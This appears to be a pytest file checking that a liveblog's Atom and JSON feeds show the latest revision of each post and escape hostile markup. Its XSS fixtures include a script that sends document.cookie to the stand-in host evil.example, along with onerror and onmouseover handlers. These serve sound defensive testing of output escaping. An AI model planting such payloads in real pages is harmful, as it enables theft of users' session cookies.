"""Feeds rendered from the streams: one item per post, the latest revision, `updated` from the edit."""

from __future__ import annotations

import json
from xml.etree import ElementTree as ET

import pytest

from liveblog.feeds import ATOM, atom_feed, json_feed, latest_posts
from schemas.keys import Keys
from schemas.subscriptions import Rule, Subscription
from tests.conftest import run_cli
from tests.dedup.pages import FLOOD, OTHER_FLOOD, page, post
from tests.helpers import PlainEnricher
from workers.alerts import store
from workers.pipeline import DocumentProcessor

pytestmark = pytest.mark.redis
KEYS = Keys()


@pytest.fixture
def edited_blog(conn, settings):
    store.save(conn, KEYS, Subscription(name="rescues", rule=Rule(keyword="rescue")))
    processor = DocumentProcessor(conn, settings, PlainEnricher())
    a = post("a", 6, "River Tessel bursts its banks at Keldby", FLOOD)
    b = post("b", 7, "Sallow End rescue", OTHER_FLOOD)
    processor.process(page([a, b], minutes_after=5))
    processor.process(page([a, post("b", 7, "Sallow End rescue", OTHER_FLOOD + " All five are safe.")],
                           minutes_after=40))
    return KEYS.blog_events("valley")


def test_json_feed_has_one_item_per_post_with_the_edit_time_as_date_modified(conn, edited_blog):
    feed = json_feed(latest_posts(conn, edited_blog, 10), title="valley")
    assert feed["version"] == "https://jsonfeed.org/version/1.1"
    rescue, flood = feed["items"]  # newest first
    assert rescue["title"] == "Sallow End rescue" and rescue["content_text"].endswith("All five are safe.")
    assert rescue["_liveblog"]["revision"] == 2
    assert rescue["date_modified"] == "2025-03-02T07:40:00Z" and rescue["date_published"] == "2025-03-02T07:00:00Z"
    assert flood["date_modified"] == flood["date_published"] == "2025-03-02T06:00:00Z"


def test_atom_feed_is_well_formed_and_updated_is_the_latest_revision(conn, edited_blog):
    root = ET.fromstring(atom_feed(latest_posts(conn, edited_blog, 10), title="valley", feed_id="urn:x"))
    entries = root.findall(f"{{{ATOM}}}entry")
    assert [e.findtext(f"{{{ATOM}}}title") for e in entries] == ["Sallow End rescue",
                                                                  "River Tessel bursts its banks at Keldby"]
    assert entries[0].findtext(f"{{{ATOM}}}updated") == "2025-03-02T07:40:00Z"
    assert root.findtext(f"{{{ATOM}}}updated") == "2025-03-02T07:40:00Z"


def test_feed_cli_for_a_blog_and_for_a_subscription(redis_url, edited_blog):
    blog = run_cli("feed", "--blog", "valley", redis_url=redis_url)
    assert blog.returncode == 0 and len(json.loads(blog.stdout)["items"]) == 2
    sub = run_cli("feed", "--subscription", "rescues", "--format", "atom", redis_url=redis_url)
    entries = ET.fromstring(sub.stdout).findall(f"{{{ATOM}}}entry")
    # one entry per alert, newest first: the edit of the alerted post is a correction follow-up
    assert [e.findtext(f"{{{ATOM}}}title") for e in entries] == ["Corrected: Sallow End rescue", "Sallow End rescue"]
    assert [e.find(f"{{{ATOM}}}category").get("term") for e in entries] == ["correction", "alert"]
    original = entries[1].findtext(f"{{{ATOM}}}id")
    assert entries[0].find(f"{{{ATOM}}}link[@rel='related']").get("href") == original


def test_feed_of_an_unknown_blog_is_empty_with_a_note_and_of_an_unknown_subscription_an_error(redis_url, conn):
    blog = run_cli("feed", "--blog", "nope", redis_url=redis_url)
    assert blog.returncode == 0 and json.loads(blog.stdout)["items"] == []  # still a valid feed on stdout
    assert blog.stderr.decode().startswith("liveblog: blog 'nope' has no events (liveblog:{nope}:events is empty")
    unknown = run_cli("feed", "--subscription", "nope", redis_url=redis_url)
    assert unknown.returncode == 2 and unknown.stdout == b""
    assert unknown.stderr.decode() == "liveblog: no subscription named 'nope': see `liveblog subscribe list`\n"
    store.save(conn, KEYS, Subscription(name="quiet", rule=Rule(keyword="volcano")))
    quiet = run_cli("feed", "--subscription", "quiet", "--format", "atom", redis_url=redis_url)
    assert quiet.returncode == 0 and ET.fromstring(quiet.stdout).findall(f"{{{ATOM}}}entry") == []
    assert quiet.stderr.decode() == (
        "liveblog: subscription 'quiet' has no alerts yet (liveblog:alerts:quiet is empty)\n")


HOSTILE_TITLE = 'Flood <script>alert("t")</script> warning'
HOSTILE_BODY = ('Water rose <img src=x onerror="window.pwned=1"> overnight. <script>document.location='
                '"https://evil.example/?c="+document.cookie</script> & <b onmouseover=steal()>more</b>')


@pytest.fixture
def hostile_blog(conn):
    from tests.web.server import event_json, publish

    publish(conn, event_json("h1", blog="hostile", post_id="p1", title=HOSTILE_TITLE, body=HOSTILE_BODY),
            blog="hostile")
    return KEYS.blog_events("hostile")


def test_atom_feed_escapes_scripts_and_event_handlers_and_stays_well_formed(conn, hostile_blog):
    xml = atom_feed(latest_posts(conn, hostile_blog, 10), title="hostile <feed>", feed_id="urn:x")
    root = ET.fromstring(xml)  # well-formed
    assert "<script" not in xml and "<img" not in xml and "<b " not in xml
    assert "&lt;script&gt;" in xml and "&lt;img src=x onerror=" in xml
    assert {el.tag.split("}")[0] + "}" for el in root.iter()} == {f"{{{ATOM}}}"}  # no element but Atom's
    assert not [el for el in root.iter() if any(a.startswith("on") for a in el.attrib)]  # no handler attribute
    [entry] = root.findall(f"{{{ATOM}}}entry")
    title, content = entry.find(f"{{{ATOM}}}title"), entry.find(f"{{{ATOM}}}content")
    assert title.get("type") == content.get("type") == "text"  # a reader shows characters, never markup
    assert title.text == HOSTILE_TITLE and content.text == HOSTILE_BODY  # exactly the source text
    assert root.find(f"{{{ATOM}}}title").text == "hostile <feed>"


def test_json_feed_carries_hostile_markup_as_plain_text_only(conn, hostile_blog):
    feed = json_feed(latest_posts(conn, hostile_blog, 10), title="hostile")
    [item] = feed["items"]
    assert item["title"] == HOSTILE_TITLE and item["content_text"] == HOSTILE_BODY
    assert "content_html" not in item and "summary" not in item  # no field a reader would render as HTML
    assert json.loads(json.dumps(feed, ensure_ascii=False)) == feed


def test_feed_cli_atom_output_of_a_hostile_post_parses_and_keeps_the_text(redis_url, hostile_blog):
    result = run_cli("feed", "--blog", "hostile", "--format", "atom", redis_url=redis_url)
    assert result.returncode == 0, result.stderr
    assert b"<script" not in result.stdout
    [entry] = ET.fromstring(result.stdout).findall(f"{{{ATOM}}}entry")
    assert entry.findtext(f"{{{ATOM}}}content") == HOSTILE_BODY


def test_characters_xml_cannot_carry_are_dropped_from_atom_and_escaped_in_json_feed(conn):
    from tests.web.server import event_json, publish

    title = "Road clo\x07s\x1bed\x0b"  # as tests/fuzz/corpus/text-control-characters.txt publishes it
    publish(conn, event_json("c1", blog="ctl", post_id="p1", title=title, body="line\x0c one\ttab\nnew\x00"),
            blog="ctl")
    events = latest_posts(conn, KEYS.blog_events("ctl"), 10)
    [entry] = ET.fromstring(atom_feed(events, title="ctl", feed_id="urn:x")).findall(f"{{{ATOM}}}entry")
    assert entry.findtext(f"{{{ATOM}}}title") == "Road closed"
    assert entry.findtext(f"{{{ATOM}}}content") == "line one\ttab\nnew"
    [item] = json_feed(events, title="ctl")["items"]
    assert item["title"] == title  # JSON escapes them: nothing lost
